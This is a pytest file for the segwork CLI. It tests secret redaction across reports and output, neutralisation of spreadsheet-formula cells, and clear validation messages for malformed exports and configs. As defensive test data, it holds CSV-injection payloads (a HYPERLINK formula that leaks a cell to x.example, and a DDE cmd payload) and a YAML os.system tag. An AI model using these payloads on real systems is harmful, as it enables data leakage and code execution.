"""Bad values, secrets and hostile files (issue 13): nothing leaks, nothing hangs, no bad value
passes quietly.

Each class of the issue has a test here or in the module named beside it:

- secrets (13.1): here, a password with ``@ # / : & %`` and a non-ASCII letter from ``${VAR}``,
  through ``segwork run`` and ``segwork validate``: a database that is not there, one that
  refuses the password, and a successful run; every file under the reports folder and the CLI's
  output are scanned for the secret in each form it could be written in;
- files segwork writes (13.7): ``segwork assign`` with hostile ids, here;
- legacy encodings, bad values, config mistakes, the YAML alias bomb: tests/test_export_shapes.py,
  tests/test_config.py, tests/test_preflight.py; the variants real exports and editors make that
  those do not cover are here, each checked through ``segwork validate`` for a message that names
  the table, column or key and the fix, without a traceback;
- interrupted runs (13.6): tests/test_pipeline.py.
"""

from __future__ import annotations

import csv
import html
import json
import os
import socket
import urllib.parse
from pathlib import Path

import nbformat
import pandas as pd
import pytest
import yaml
from nbformat.v4 import new_code_cell, new_markdown_cell
from typer.testing import CliRunner

from segwork.cli import app
from tests.test_pipeline import _notebook, _params_cell

SECRET_ENV = "SEGWORK_HOSTILE_PW"
# As a password manager makes them: URL delimiters, '&' (HTML-escaped), '%' and a Czech letter
# (JSON-escaped as \u017d); never URL-encoded by the user, as the README's ${VAR} pattern invites.
SECRET = "Tr0ub@dor#3/x:y&50%Ž"
WRONG_SECRET = "n0t-it@all#/:Ř"


def secret_forms(secret: str) -> set[str]:
    """Every way a secret could be written into a file or onto the screen."""
    return {
        secret,
        urllib.parse.quote(secret, safe=""),
        urllib.parse.quote(secret),
        urllib.parse.quote_plus(secret),
        json.dumps(secret)[1:-1],
        json.dumps(secret, ensure_ascii=False)[1:-1],
        html.escape(secret),
        html.escape(secret, quote=False),
    }


def assert_no_secret(folder: Path, texts: list[str], secrets: list[str]) -> int:
    """No form of any secret in any file under ``folder`` or in ``texts``; returns the files."""
    files = [p for p in folder.rglob("*") if p.is_file()]
    for secret in secrets:
        for form in secret_forms(secret):
            needle = form.encode()
            for path in files:
                assert needle not in path.read_bytes(), (form, path)
            for text in texts:
                assert form not in text, (form, text)
    return len(files)


def _closed_port() -> int:
    """A port of 127.0.0.1 on which nothing listens (bound, then released)."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _invoke(*args: str):
    """``segwork ARGS`` in this process; stdout and stderr captured separately."""
    return CliRunner().invoke(app, list(args), catch_exceptions=False)


def _cli_texts(result) -> list[str]:
    return [result.stdout, result.stderr]


LOAD_AND_PRINT = (
    "from segwork.context import RunContext\n"
    "ctx = RunContext.open(config_path, run_dir)\n"
    "# what an analyst debugging a connection prints\n"
    "for table, src in ctx.config.sources.items():\n"
    "    if src.url:\n"
    "        print(table, 'from', src.resolved_url())\n"
    "sink = ctx.config.outputs.memberships\n"
    "if sink is not None:\n"
    "    print('memberships to', sink.resolved_url())\n"
    "tables = ctx.tables\n"
    "print('customers:', len(tables.customers))\n"
)

WRITE_MEMBERS = (
    "import pandas as pd\n"
    "ids = ctx.tables.customers['customer_id'].astype(str).tolist()\n"
    "ctx.save({'segment_membership': pd.DataFrame({'customer_id': ids, "
    "'vip': [i % 2 == 0 for i in range(len(ids))]})})\n"
)


def _secret_project(root: Path, *, orders: dict, outputs: dict | None = None) -> Path:
    """A one-notebook project: it prints the URLs the config resolves, reads the tables and
    writes a segment_membership artifact; customers from a file, orders as given."""
    nbdir = root / "notebooks"
    nbdir.mkdir(parents=True)
    nb = _notebook(
        [
            new_markdown_cell("# Load the CRM"),
            _params_cell('config_path = ""\nrun_dir = ""'),
            new_code_cell(LOAD_AND_PRINT),
            new_code_cell(WRITE_MEMBERS),
        ]
    )
    nbformat.write(nb, nbdir / "01_load.ipynb")
    (root / "customers.csv").write_text("customer_id\nc1\nc2\nc3\n", encoding="utf-8")
    (root / "orders.csv").write_text(
        "order_id,customer_id,order_date,amount\no1,c1,2026-01-02,10\no2,c2,2026-01-03,5\n",
        encoding="utf-8",
    )
    cfg = {
        "name": "Secret test",
        "analysis_date": "2026-01-31",
        "sources": {"customers": {"path": "customers.csv"}, "orders": orders},
        "notebooks_dir": "notebooks",
        "reports_dir": "reports",
    }
    if outputs is not None:
        cfg["outputs"] = outputs
    path = root / "config.yaml"
    path.write_text(yaml.safe_dump(cfg, allow_unicode=True), encoding="utf-8")
    return path


def _pg_url(port: int, database: str = "crm", user: str = "hostile") -> str:
    return f"postgresql://{user}:${{{SECRET_ENV}}}@127.0.0.1:{port}/{database}"


def test_a_secret_reaches_no_file_and_no_screen_when_the_database_is_not_there(
    tmp_path, monkeypatch
) -> None:
    monkeypatch.setenv(SECRET_ENV, SECRET)
    port = _closed_port()
    config = _secret_project(tmp_path, orders={"url": _pg_url(port), "table": "orders"})
    cwd = os.getcwd()
    os.chdir(tmp_path)  # the CLI's default paths are relative to the working directory
    try:
        validated = _invoke("validate", "--config", str(config))
        ran = _invoke("run", "--config", str(config))
    finally:
        os.chdir(cwd)

    assert validated.exit_code == 2, validated.output
    assert "sources.orders" in validated.stderr and "Connection refused" in validated.stderr
    assert f"postgresql://hostile:***@127.0.0.1:{port}/crm" in validated.stderr
    assert ran.exit_code == 1, ran.output
    # the run validates the sources once, before any notebook (issue 14): it stops there
    assert "validation FAILED" in ran.stderr and "sources.orders" in ran.stderr
    assert f"postgresql://hostile:***@127.0.0.1:{port}/crm" in ran.stderr

    run_dir = next(p for p in (tmp_path / "reports" / "runs").iterdir() if p.is_dir())
    record = json.loads((run_dir / "run.json").read_text(encoding="utf-8"))
    error = record["validation"]["error"]
    assert record["status"] == "failed" and "Connection refused" in error["evalue"]
    assert f"postgresql://hostile:***@127.0.0.1:{port}/crm" in error["evalue"]
    assert record["notebooks"][0]["status"] == "not run"
    page = (run_dir / "index.html").read_text(encoding="utf-8")
    assert "Connection refused" in page and "hostile:***@" in page
    n = assert_no_secret(tmp_path / "reports", _cli_texts(validated) + _cli_texts(ran), [SECRET])
    assert n >= 4  # run.json, two index pages, the run's page (no notebook ran)


# --------------------------------------------------------------------------------------------
# A server that is there: a successful run and one whose password it refuses


@pytest.fixture(scope="module")
def pg_hostile():
    """A PostgreSQL server with a role 'hostile' whose password is SECRET, owning database crm."""
    import sqlalchemy as sa

    from segwork import warehouse
    from tests import pg_server

    try:
        server = pg_server.start()
    except FileNotFoundError as e:  # a failure, not a skip: a green run must have run these
        pytest.fail(
            f"{e}. Fix: make system-deps installs PostgreSQL, or leave these tests out with "
            "make test PYTEST_ARGS='-m \"not postgres\"'"
        )
    eng = warehouse.engine(server.resolved_url())
    quoted = SECRET.replace("'", "''")
    with eng.connect().execution_options(isolation_level="AUTOCOMMIT") as conn:
        conn.execute(sa.text(f"CREATE ROLE hostile LOGIN PASSWORD '{quoted}'"))
        conn.execute(sa.text("CREATE DATABASE crm OWNER hostile"))
    eng.dispose()
    yield server
    server.stop()


@pytest.mark.postgres
def test_a_secret_reaches_no_file_and_no_screen_in_a_good_and_a_refused_run(
    pg_hostile, tmp_path, monkeypatch
) -> None:
    import sqlalchemy as sa

    from segwork import warehouse

    url = _pg_url(pg_hostile.port)
    config = _secret_project(
        tmp_path,
        orders={"path": "orders.csv"},
        outputs={"memberships": {"url": url, "table": "segment_membership"}},
    )
    monkeypatch.setenv(SECRET_ENV, SECRET)
    cwd = os.getcwd()
    os.chdir(tmp_path)
    try:
        good = _invoke("run", "--config", str(config))
        monkeypatch.setenv(SECRET_ENV, WRONG_SECRET)
        refused = _invoke("run", "--config", str(config))
    finally:
        os.chdir(cwd)

    assert good.exit_code == 0, good.output
    assert refused.exit_code == 1, refused.output
    assert "password authentication failed" in refused.stderr
    encoded = urllib.parse.quote(SECRET, safe="")
    eng = warehouse.engine(url.replace("${" + SECRET_ENV + "}", encoded))
    with eng.connect() as conn:
        rows = conn.execute(sa.text("SELECT count(*) FROM segment_membership")).scalar()
    eng.dispose()
    assert rows == 2  # c1 and c3 are 'vip'; written by the good run, kept by the refused one

    runs = sorted(p for p in (tmp_path / "reports" / "runs").iterdir() if p.is_dir())
    records = [json.loads((r / "run.json").read_text(encoding="utf-8")) for r in runs]
    assert [r["status"] for r in records] == ["succeeded", "failed"]
    assert "password authentication failed" in records[1]["outputs"][0]["error"]
    nb = nbformat.read(runs[0] / "notebooks" / "01_load.ipynb", as_version=4)
    printed = "".join(o.get("text", "") for c in nb.cells for o in c.get("outputs", []))
    assert f"memberships to postgresql://hostile:***@127.0.0.1:{pg_hostile.port}/crm" in printed
    texts = _cli_texts(good) + _cli_texts(refused)
    assert assert_no_secret(tmp_path / "reports", texts, [SECRET, WRONG_SECRET]) >= 10


# --------------------------------------------------------------------------------------------
# Every file segwork writes is safe to open (13.7): segwork assign

HOSTILE_IDS = [
    '=HYPERLINK("http://x.example/?leak="&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")


def test_segwork_assign_neutralises_formula_cells(tmp_path) -> None:
    from segwork.personas import fit_personas
    from tests.test_clusters import simulate_survey

    resp, cat, _ = simulate_survey(3, n=300, seed=5)
    fitted = fit_personas(
        resp, cat, k=3, n_bootstrap=2, names={0: "=1+2 fans", 1: "@risk", 2: "Plain"}
    )
    model = fitted.save(tmp_path / "personas.skops")
    new = resp.head(len(HOSTILE_IDS) + 1).copy()
    new["customer_id"] = [*HOSTILE_IDS, "c-ordinary"]
    inp = tmp_path / "new.csv"
    new.to_csv(inp, index=False, quoting=csv.QUOTE_NONNUMERIC)  # keeps the lone \r
    out = tmp_path / "assigned.csv"
    result = _invoke("assign", "--model", str(model), "--input", str(inp), "--output", str(out))
    assert result.exit_code == 0, result.output

    got = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert list(got.columns) == ["customer_id", "cluster", "persona", "status"]
    assert got["customer_id"].tolist() == ["'" + i for i in HOSTILE_IDS] + ["c-ordinary"]
    cells = [v for col in got.columns for v in got[col]]
    assert not [v for v in cells if v.startswith(FORMULA_START)]
    assert {"'=1+2 fans", "'@risk"} & set(got["persona"])  # names neutralised, not dropped
    expected = fitted.assign(new)
    assert got["cluster"].astype(int).tolist() == expected.astype(int).tolist()

    parquet = tmp_path / "assigned.parquet"  # for programs: the values as they are
    _invoke("assign", "--model", str(model), "--input", str(inp), "--output", str(parquet))
    assert pd.read_parquet(parquet)["customer_id"].tolist() == [*HOSTILE_IDS, "c-ordinary"]


# --------------------------------------------------------------------------------------------
# The corpus: broken and hostile inputs as exports and editors make them, through validate

ROOT = Path(__file__).parents[1]
CUSTOMERS = (
    "customer_id,name,birth_date,email_opt_in\n"
    "001,Jana Nováková,1980-05-01,true\n"
    "002,Petr Šťastný,1975-02-03,false\n"
    "003,Zdeněk Žák,1990-12-24,true\n"
)
ORDERS = (
    "order_id,customer_id,order_date,amount\n"
    "A1,001,2025-01-10,100.50\n"
    "A2,001,2025-03-01,250\n"
    "A3,002,2025-04-20,80\n"
    "A4,003,2025-05-05,1000\n"
)
ITEMS = (
    "item,construct,text,reverse_coded\n"
    "q1,price,I compare prices.,False\n"
    "q2,price,Cheap is best.,False\n"
    "q3,quality,Quality first.,False\n"
    "q4,quality,I buy brands.,True\n"
)
RESPONSES = "customer_id,q1,q2,q3,q4\n001,4,5,2,1\n002,1,2,5,4\n003,3,3,3,3\n"


def _sources(**tables: dict) -> dict:
    return {"customers": {"path": "customers.csv"}, "orders": {"path": "orders.csv"}, **tables}


def _corpus_project(
    root: Path, files: dict | None = None, sources: dict | None = None, **extra
) -> Path:
    """customers.csv and orders.csv (valid) plus ``files``; the real notebooks; a config."""
    root.mkdir(parents=True, exist_ok=True)
    for name, content in {
        "customers.csv": CUSTOMERS,
        "orders.csv": ORDERS,
        **(files or {}),
    }.items():
        data = content if isinstance(content, bytes) else content.encode("utf-8")
        (root / name).write_bytes(data)
    cfg = {
        "analysis_date": "2025-06-30",
        "sources": sources or _sources(),
        "notebooks_dir": str(ROOT / "notebooks"),
        "reports_dir": "reports",
        **extra,
    }
    path = root / "config.yaml"
    path.write_text(yaml.safe_dump(cfg, allow_unicode=True), encoding="utf-8")
    return path


def _validate(config: Path) -> tuple[int, str]:
    """Exit code and everything validate printed, progress lines left out."""
    result = CliRunner().invoke(app, ["validate", "--config", str(config)])
    lines = (result.stdout + "\n" + result.stderr).splitlines()
    text = "\n".join(line for line in lines if not line.lstrip().startswith("[segwork]"))
    assert "Traceback" not in text, text
    assert result.exception is None or isinstance(result.exception, SystemExit), text
    return result.exit_code, text


def _orders(old: str, new: str) -> dict:
    assert old in ORDERS
    return {"orders.csv": ORDERS.replace(old, new, 1)}


def _xlsx(rows: list[list], sheet: str = "Data") -> bytes:
    import io

    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = sheet
    for row in rows:
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


NOT_A_NUMBER_FIX = ("sources.orders.invalid_rows", "sources.orders.decimal")
NOT_A_DATE_FIX = ("sources.orders.date_format", "sources.orders.invalid_rows")

# name -> (project arguments, exit code, texts the output must contain: table/column/key, fix)
CORPUS: dict[str, tuple[dict, int, tuple[str, ...]]] = {
    "Excel error #VALUE! as an amount": (
        {"files": _orders("250\n", "#VALUE!\n")},
        2,
        ("table 'orders'", "column 'amount'", "'#VALUE!'", *NOT_A_NUMBER_FIX),
    ),
    "Excel #N/A as an amount": (
        {"files": _orders("250\n", "#N/A\n")},
        2,
        ("table 'orders'", "column 'amount'", "have no value", "sources.orders.invalid_rows"),
    ),
    "amount with a currency, '1 200 Kč'": (
        {"files": _orders("250\n", '"1 200 Kč"\n')},
        2,
        ("column 'amount'", "'1 200 Kč'", "no currency symbols", *NOT_A_NUMBER_FIX),
    ),
    "amount with a Unicode minus, '−50'": (
        {"files": _orders("250\n", "−50\n")},
        2,
        ("column 'amount'", "'−50'", *NOT_A_NUMBER_FIX),
    ),
    "amount as accountants write a return, '(50.00)'": (
        {"files": _orders("250\n", "(50.00)\n")},
        2,
        ("column 'amount'", "'(50.00)'", *NOT_A_NUMBER_FIX),
    ),
    "amount with SAP's trailing minus, '50-'": (
        {"files": _orders("250\n", "50-\n")},
        2,
        ("column 'amount'", "'50-'", *NOT_A_NUMBER_FIX),
    ),
    "amount 1e308": (
        {"files": _orders("250\n", "1e308\n")},
        2,
        ("column 'amount'", "1,000,000,000,000 or more", "sources.orders.max_amount"),
    ),
    "amount -Infinity": (
        {"files": _orders("250\n", "-Infinity\n")},
        2,
        ("column 'amount'", "-inf", "NaN and infinity are not numbers"),
    ),
    "order date 1899-12-30 (Excel's day zero)": (
        {"files": _orders("2025-03-01", "1899-12-30")},
        2,
        ("column 'order_date'", "'1899-12-30'", "placeholders", *NOT_A_DATE_FIX),
    ),
    "order date 0001-01-01 (a database's minimum)": (
        {"files": _orders("2025-03-01", "0001-01-01")},
        2,
        ("column 'order_date'", "'0001-01-01'", *NOT_A_DATE_FIX),
    ),
    "order date 2025-02-30": (
        {"files": _orders("2025-03-01", "2025-02-30")},
        2,
        ("column 'order_date'", "'2025-02-30'", *NOT_A_DATE_FIX),
    ),
    "order date as an Excel serial number, 45717": (
        {"files": _orders("2025-03-01", "45717")},
        2,
        ("column 'order_date'", "'45717'", *NOT_A_DATE_FIX),
    ),
    "order date 03/01/2025 without date_format": (
        {"files": _orders("2025-03-01", "03/01/2025")},
        2,
        ("column 'order_date'", "'03/01/2025'", *NOT_A_DATE_FIX),
    ),
    "order date 9999-12-31 (a database's 'never')": (
        {"files": _orders("2025-03-01", "9999-12-31")},
        0,
        ("orders.order_date", "after the analysis date 2025-06-30", "1 orders", "9999-12-31"),
    ),
    "birth date 1800-01-01": (
        {"files": {"customers.csv": CUSTOMERS.replace("1975-02-03", "1800-01-01")}},
        0,
        ("customers.birth_date", "set to missing: 1 rows", "'1800-01-01'"),
    ),
    "two headers that differ only in case, Amount and amount": (
        {
            "files": {
                "orders.csv": "order_id,customer_id,order_date,amount,Amount\nA1,001,2025-01-10,1,2\n"
            }
        },
        2,
        ("table 'orders'", "two columns named", "columns 4 and 5", "Fix: rename one of them"),
    ),
    "an Excel sheet index that does not exist": (
        {
            "files": {"orders.xlsx": _xlsx([["order_id", "customer_id", "order_date", "amount"]])},
            "sources": _sources(orders={"path": "orders.xlsx", "sheet": 3}),
        },
        2,
        ("table 'orders'", "no sheet 3", "'Data'", "sources.orders.sheet"),
    ),
    "a catalogue item the answers do not have": (
        {
            "files": {"items.csv": ITEMS + "q9,quality,Extra.,False\n", "responses.csv": RESPONSES},
            "sources": _sources(
                survey_responses={"path": "responses.csv"}, survey_items={"path": "items.csv"}
            ),
        },
        2,
        ("table 'survey_responses'", "['q9']", "survey_items", "Fix:"),
    ),
    "survey answers as text labels (Souhlasím)": (
        {
            "files": {
                "items.csv": ITEMS,
                "responses.csv": RESPONSES.replace("001,4,5", "001,Souhlasím,5"),
            },
            "sources": _sources(
                survey_responses={"path": "responses.csv"}, survey_items={"path": "items.csv"}
            ),
        },
        2,
        ("table 'survey_responses', column 'q1'", "'Souhlasím'", "customer 001", "Fix:"),
    ),
    "reverse_coded written as 'maybe'": (
        {
            "files": {"items.csv": ITEMS.replace("True", "maybe"), "responses.csv": RESPONSES},
            "sources": _sources(
                survey_responses={"path": "responses.csv"}, survey_items={"path": "items.csv"}
            ),
        },
        2,
        ("table 'survey_items'", "column 'reverse_coded'", "'maybe'", "sources.survey_items"),
    ),
    "a customer in two variants of one campaign": (
        {
            "files": {
                "camp.csv": "customer_id,campaign_id,variant,assigned_at,converted\n"
                "001,spring,control,2025-03-01,0\n002,spring,offer,2025-03-01,1\n"
                "001,spring,offer,2025-03-01,0\n"
            },
            "sources": _sources(campaign_exposures={"path": "camp.csv"}),
        },
        2,
        ("table 'campaign_exposures'", "campaign_id+customer_id", "'(spring, 001)'", "Fix:"),
    ),
    "a mapping onto the id another column already has": (
        {
            "sources": _sources(
                orders={"path": "orders.csv", "columns": {"customer_id": "order_id"}}
            )
        },
        2,
        ("table 'orders', column 'customer_id'", "sources.orders.columns.customer_id"),
    ),
    "a gzip export, orders.csv.gz": (
        {
            "files": {"orders.csv.gz": __import__("gzip").compress(ORDERS.encode())},
            "sources": _sources(orders={"path": "orders.csv.gz"}),
        },
        2,
        ("sources.orders.path", "'.gz'", "Fix:"),
    ),
    "a YAML key indented with a tab": (
        {"raw_config": lambda text: text.replace("  customers:", "\tcustomers:", 1)},
        2,
        ("not valid YAML", "line", "'\\t'", "Fix: indent with spaces"),
    ),
    "a Windows path in double quotes (\\d is no escape)": (
        {
            "raw_config": lambda text: text.replace(
                "path: orders.csv", 'path: "C:\\data\\orders.csv"'
            )
        },
        2,
        ("not valid YAML", "line", "C:\\data", "single quotes", "C:/data/orders.csv"),
    ),
    "Excel's day 1, 1900-01-01, as an order date": (
        {"files": _orders("2025-03-01", "1900-01-01")},
        2,
        ("column 'order_date'", "'1900-01-01'", "on or before 1900-01-01", *NOT_A_DATE_FIX),
    ),
    "a campaign exposure without a variant (an empty cell)": (
        {
            "files": {
                "ab.csv": "customer_id;campaign_id;variant\r\n001;spring;control\r\n"
                "002;spring;\r\n003;spring;offer\r\n"
            },
            "sources": _sources(campaign_exposures={"path": "ab.csv"}),
        },
        2,
        ("table 'campaign_exposures'", "column 'variant'", "have no value", "invalid_rows"),
    ),
    "interactions and assignments after the analysis date": (
        {
            "files": {
                "x.csv": "customer_id,occurred_at,kind\n001,2025-05-01,call\n002,2031-01-01,call\n",
                "ab.csv": "customer_id,campaign_id,variant,assigned_at,converted\n"
                "001,s,control,2025-06-01,0\n002,s,offer,2026-03-02,1\n003,s,offer,2025-06-01,0\n",
            },
            "sources": _sources(
                interactions={"path": "x.csv"}, campaign_exposures={"path": "ab.csv"}
            ),
        },
        0,
        (
            "interactions.occurred_at: after the analysis date 2025-06-30",
            "1 interactions, kept (e.g. 2031-01-01)",
            "campaign_exposures.assigned_at: after the analysis date 2025-06-30",
            "check analysis_date: 1 assignments, kept (e.g. 2026-03-02)",
        ),
    ),
    "encoding: cp1250 set, but this export is UTF-8": (
        {"sources": _sources(customers={"path": "customers.csv", "encoding": "cp1250"})},
        2,
        (
            "table 'customers'",
            "is UTF-8 text",
            "'001,Jana Nováková",
            "remove sources.customers.encoding",
        ),
    ),
    "notebooks.03_personas.algorithm: kmean": (
        {"notebooks": {"03_personas": {"algorithm": "kmean"}}},
        2,
        ("notebooks.03_personas.algorithm", "'kmean'", "'gmm'", "did you mean 'kmeans'?"),
    ),
    "notebooks.02_rfm_clv.bins: 0": (
        {"notebooks": {"02_rfm_clv": {"bins": 0}}},
        2,
        ("notebooks.02_rfm_clv.bins", "0 is not allowed", "from 2 to 9"),
    ),
    "notebooks.04_campaign_ab.alpha: 5 (a percentage)": (
        {"notebooks": {"04_campaign_ab": {"alpha": 5}}},
        2,
        ("notebooks.04_campaign_ab.alpha", "above 0 and below 1", "did you mean 0.05?"),
    ),
    "notebooks.04_campaign_ab.correction: bonferoni": (
        {"notebooks": {"04_campaign_ab": {"correction": "bonferoni"}}},
        2,
        ("notebooks.04_campaign_ab.correction", "'bonferoni'", "'holm', 'fdr_bh' or 'none'"),
    ),
    "notebooks.05_rule_segments.member_formats: [xls]": (
        {"notebooks": {"05_rule_segments": {"member_formats": ["xls"]}}},
        2,
        ("notebooks.05_rule_segments.member_formats", "'xls'", "did you mean 'xlsx'?"),
    ),
    "a YAML tag that would run code": (
        {"raw_config": lambda text: text + "evil: !!python/object/apply:os.system ['echo x']\n"},
        2,
        ("not valid YAML", "python/object/apply:os.system", "Fix: remove the tag"),
    ),
}


# Once known gaps (issue 13), now named with their fix.
CORPUS |= {
    "an impossible date unquoted in the config, analysis_date: 2025-06-31": (
        {"raw_config": lambda text: text.replace("'2025-06-30'", "2025-06-31")},
        2,
        ("analysis_date", "2025-06-31", "Fix:"),
    ),
    "a NUL byte at the end of the config (a broken save)": (
        {"raw_config": lambda text: text + "\0"},
        2,
        ("config.yaml", "Fix:"),
    ),
    "a key given twice in the config (the second wins quietly)": (
        {"raw_config": lambda text: text + "analysis_date: 2025-01-31\n"},
        2,
        ("analysis_date", "twice"),
    ),
    "notebooks.03_personas.k: 'five'": (
        {
            "files": {"items.csv": ITEMS, "responses.csv": RESPONSES},
            "sources": _sources(
                survey_responses={"path": "responses.csv"}, survey_items={"path": "items.csv"}
            ),
            "notebooks": {"03_personas": {"k": "five"}},
        },
        2,
        ("notebooks.03_personas.k", "'auto'", "whole number"),
    ),
    "an interaction without a kind": (
        {
            "files": {
                "x.csv": "customer_id,occurred_at,kind\n001,2025-05-01,\n002,2025-05-01,call\n"
            },
            "sources": _sources(interactions={"path": "x.csv"}),
        },
        2,
        ("table 'interactions'", "column 'kind'", "have no value"),
    ),
}


@pytest.mark.parametrize("name", list(CORPUS))
def test_corpus_case_is_named_with_its_fix_or_read(name, tmp_path) -> None:
    project, exit_code, expected = CORPUS[name]
    project = dict(project)
    rewrite = project.pop("raw_config", None)
    config = _corpus_project(tmp_path, **project)
    if rewrite is not None:
        config.write_text(rewrite(config.read_text(encoding="utf-8")), encoding="utf-8")
    code, text = _validate(config)
    assert code == exit_code, text
    missing = [e for e in expected if e not in text]
    assert not missing, (missing, text)


def test_a_secret_in_a_spark_uri_is_listed_and_hidden(monkeypatch) -> None:
    from segwork.config import parse_config

    monkeypatch.setenv(SECRET_ENV, SECRET)
    cfg = parse_config(
        {
            "analysis_date": "2025-06-30",
            "engine": "pyspark",
            "sources": {"orders": {"uri": f"s3a://AKIA:${{{SECRET_ENV}}}@bucket/orders/"}},
        },
        base_dir=Path("."),
        origin=Path("config.yaml"),
        check_files=False,
    )
    assert SECRET in cfg.secrets()
    described = cfg.sources.orders.describe()
    assert not any(part in described for part in SECRET.split("@")), described


def test_czech_yes_no_and_excel_number_ids_are_read_right(tmp_path) -> None:
    from segwork.config import load_config
    from segwork.sources import load_tables

    customers = CUSTOMERS.replace(",true\n", ",ano\n").replace(",false\n", ",ne\n")
    customers = customers.replace("\n00", "\n")  # ids 1, 2, 3 as text
    ids_as_numbers = _xlsx(
        [
            ["order_id", "customer_id", "order_date", "amount"],
            ["A1", 1, "2025-01-10", 10.0],  # Excel stores these ids as numbers
            ["A2", 3, "2025-02-10", 5.5],
        ]
    )
    config = _corpus_project(
        tmp_path,
        files={"customers.csv": customers, "orders.xlsx": ids_as_numbers},
        sources=_sources(orders={"path": "orders.xlsx"}),
    )
    code, text = _validate(config)
    assert code == 0, text
    tables = load_tables(load_config(config))
    got = tables.customers.set_index("customer_id")["email_opt_in"]
    assert got.to_dict() == {"1": True, "2": False, "3": True}
    orders = tables.orders.execute()
    assert orders.set_index("order_id")["customer_id"].to_dict() == {"A1": "1", "A2": "3"}


def test_everything_validate_prints_is_redacted_by_value(tmp_path, monkeypatch) -> None:
    """Whatever carries the secret (here a cell of the export quoted in an error), the screen
    shows ***: stdout and stderr of the command are redacted as a whole, progress lines too."""
    monkeypatch.setenv(SECRET_ENV, SECRET)
    config = _corpus_project(
        tmp_path,
        files=_orders("250\n", f'"{SECRET}"\n'),
        outputs={"memberships": {"url": _pg_url(_closed_port()), "table": "m"}},
    )
    result = CliRunner().invoke(app, ["validate", "--config", str(config)])
    assert result.exit_code == 2, result.output
    assert "column 'amount'" in result.stderr and "row 2: '***'" in result.stderr
    assert "[segwork] reading orders from orders.csv" in result.stderr
    assert_no_secret(tmp_path / "reports", _cli_texts(result), [SECRET])
